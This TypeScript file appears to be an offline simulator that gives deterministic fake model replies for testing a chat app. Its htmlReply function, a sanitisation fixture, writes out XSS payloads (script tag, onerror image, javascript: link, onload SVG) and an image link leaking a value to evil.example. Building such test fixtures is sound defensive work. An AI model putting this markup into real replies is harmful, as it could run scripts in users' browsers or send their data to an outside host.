import { record } from "./values";

// What the simulated models say. Everything is derived from the request, so the same question
// always gets the same answer and tests can assert on it.

const CJK = /[\u2e80-\u9fff\uac00-\ud7af\uf900-\ufaff\uff00-\uffef]/;

export interface Question {
  text: string;
  images: number;
  /** Images in the whole prompt, for prompt token accounting. */
  allImages: number;
  /** Role of the last message: after a tool result the model answers in text instead of calling again. */
  lastRole: string;
  /** All message text, for prompt token accounting. */
  promptText: string;
  messageCount: number;
}

export function readQuestion(messages: unknown[]): Question {
  let text = "";
  let images = 0;
  let allImages = 0;
  let promptText = "";
  for (const message of messages) {
    const m = record(message);
    const { text: partText, images: partImages } = contentText(m.content);
    promptText += `${partText}\n`;
    allImages += partImages;
    if (m.role === "user") {
      text = partText;
      images = partImages;
    }
  }
  const last = record(messages[messages.length - 1]);
  return { text, images, allImages, lastRole: String(last.role ?? ""), promptText, messageCount: messages.length };
}

function contentText(content: unknown): { text: string; images: number } {
  if (typeof content === "string") return { text: content, images: 0 };
  if (!Array.isArray(content)) return { text: "", images: 0 };
  let text = "";
  let images = 0;
  for (const part of content) {
    const p = record(part);
    if (p.type === "text" && typeof p.text === "string") text += (text ? "\n" : "") + p.text;
    if (p.type === "image_url" || p.type === "video_url") images++;
  }
  return { text, images };
}

/** Roughly one token per 4 characters, one per CJK character; fractional so chunks can be summed. */
export function tokenWeight(text: string): number {
  let weight = 0;
  for (const ch of text) weight += CJK.test(ch) ? 1 : 0.25;
  return weight;
}

export function countTokens(text: string): number {
  return Math.ceil(tokenWeight(text));
}

/** The longest prefix of `text` that fits in `budget` tokens. */
export function takeTokens(text: string, budget: number): string {
  let weight = 0;
  let end = 0;
  for (const ch of text) {
    weight += CJK.test(ch) ? 1 : 0.25;
    if (weight > budget) break;
    end += ch.length;
  }
  return text.slice(0, end);
}

/**
 * Stream pieces: a word (with its trailing space) or one or two CJK characters by default, or
 * fixed-size slices when a chunk size is asked for.
 */
export function splitChunks(text: string, size?: number): string[] {
  if (!text) return [];
  if (size && size > 0) {
    const out: string[] = [];
    let i = 0;
    while (i < text.length) {
      let j = Math.min(text.length, i + size);
      // Never split a surrogate pair: a lone half would turn into U+FFFD on the wire.
      if (j < text.length && /[\ud800-\udbff]/.test(text.charAt(j - 1))) j++;
      out.push(text.slice(i, j));
      i = j;
    }
    return out;
  }
  return (
    text.match(
      /[\u2e80-\u9fff\uac00-\ud7af\uf900-\ufaff\uff00-\uffef]{1,2}\s*|[^\s\u2e80-\u9fff\uac00-\ud7af\uf900-\ufaff\uff00-\uffef]+\s*|\s+/g,
    ) ?? [text]
  );
}

interface Directives {
  long?: number;
  rate?: number;
  chunk?: number;
  finish?: string;
  html: boolean;
  fail: boolean;
}

/** Test helpers written into a prompt, e.g. `[[long:100]] [[rate:200]]`. */
export function readDirectives(text: string): Directives {
  const number = (name: string) => {
    const m = new RegExp(`\\[\\[${name}:(\\d+(?:\\.\\d+)?)\\]\\]`).exec(text);
    return m ? Number(m[1]) : undefined;
  };
  return {
    long: number("long"),
    rate: number("rate"),
    chunk: number("chunk"),
    finish: /\[\[finish:([a-z_]+)\]\]/.exec(text)?.[1],
    html: text.includes("[[html]]"),
    fail: text.includes("[[fail]]"),
  };
}

function stripDirectives(text: string): string {
  return text.replace(/\[\[[a-z]+(?::[^\]]*)?\]\]/g, "").trim();
}

function shorten(text: string, max: number): string {
  const flat = text.replace(/\s+/g, " ").trim();
  return flat.length > max ? `${flat.slice(0, max - 1)}…` : flat;
}

export function isChinese(text: string): boolean {
  return CJK.test(text);
}

export function answerText(question: Question, model: string): string {
  const q = stripDirectives(question.text) || "(empty message)";
  const quote = q
    .split("\n")
    .slice(0, 12)
    .map((line) => `> ${line}`)
    .join("\n");
  const snippet = JSON.stringify(shorten(q, 60)).replace(/`/g, "'");
  const zh = isChinese(q);
  const imageLine =
    question.images > 0
      ? zh
        ? `- **图片：** 收到 ${question.images} 张\n`
        : `- **Images:** ${question.images} attached\n`
      : "";
  if (zh) {
    return (
      `## 模拟回答\n\n${quote}\n\n这是离线模拟器给出的固定回答，无需服务商密钥即可试用本应用。\n\n` +
      `- **模型：** \`${model}\`\n- **问题长度：** ${[...q].length} 个字符\n${imageLine}\n` +
      `\`\`\`ts\nconst question = ${snippet};\nconsole.log(question.length);\n\`\`\`\n\n同样的问题总会得到同样的回答。`
    );
  }
  return (
    `## Simulated answer\n\n${quote}\n\nThis is a deterministic reply from the offline simulator, ` +
    "so the app can be tried without a provider key.\n\n" +
    `- **Model:** \`${model}\`\n- **Question length:** ${[...q].length} characters\n${imageLine}\n` +
    `\`\`\`ts\nconst question = ${snippet};\nconsole.log(question.length);\n\`\`\`\n\nAsk the same question again and you get the same answer.`
  );
}

export function reasoningText(question: Question, budgetTokens?: number): string {
  const q = shorten(stripDirectives(question.text) || "an empty message", 80);
  const sentences = isChinese(q)
    ? [
        `用户问的是“${q}”。`,
        "我先用自己的话复述这个问题，确认没有误解提问者的意思。",
        "然后想清楚哪些事实重要，哪些与问题无关，可以略过。",
        "还要考虑提问者可能的背景，以及他们最需要的是概念、步骤还是示例。",
        "如果问题里有歧义，我应该选择最常见的理解，并在回答中顺带说明。",
        "一个带标题、列表和代码示例的简短结构化回答最合适。",
        "列表列出要点，代码示例展示最小可运行的用法。",
        "最后检查一遍回答是否准确、简洁、没有遗漏关键限制。",
        "现在开始写回答。",
      ]
    : [
        `The user asks: "${q}". `,
        "Let me restate the question in my own words to be sure I read it right. ",
        "Then I check which facts matter for the answer and which ones I can leave out. ",
        "I should also think about who is asking and whether they want a concept, steps or an example. ",
        "If the question is ambiguous, I take the most common reading and say so in the answer. ",
        "A short structured answer with a heading, a list and a code sample will serve best. ",
        "The list gives the key points, and the code sample shows the smallest working use. ",
        "Finally I check that the answer is accurate, brief, and does not miss an important limit. ",
        "I will write it now.",
      ];
  if (budgetTokens === undefined) return sentences.join("");
  // A loose budget: whole sentences while they fit, but always at least the first one.
  let out = sentences[0] ?? "";
  for (const s of sentences.slice(1)) {
    if (countTokens(out + s) > budgetTokens) break;
    out += s;
  }
  return out;
}

export function htmlReply(): string {
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString("base64");
  return (
    "## Untrusted markup\n\nThis reply carries markup that a renderer must neutralise.\n\n" +
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n" +
    "[click](javascript:alert(1))\n\n" +
    `![](data:image/svg+xml;base64,${svg})\n\n` +
    "![x](https://evil.example/leak.png?q=secret)\n\nEnd of the untrusted markup."
  );
}

export function jsonReply(question: Question, model: string): string {
  const q = shorten(stripDirectives(question.text), 200);
  return JSON.stringify(
    {
      question: q,
      answer: "A deterministic JSON reply from the offline simulator.",
      model,
      items: ["alpha", "beta", "gamma"],
      ok: true,
    },
    null,
    2,
  );
}
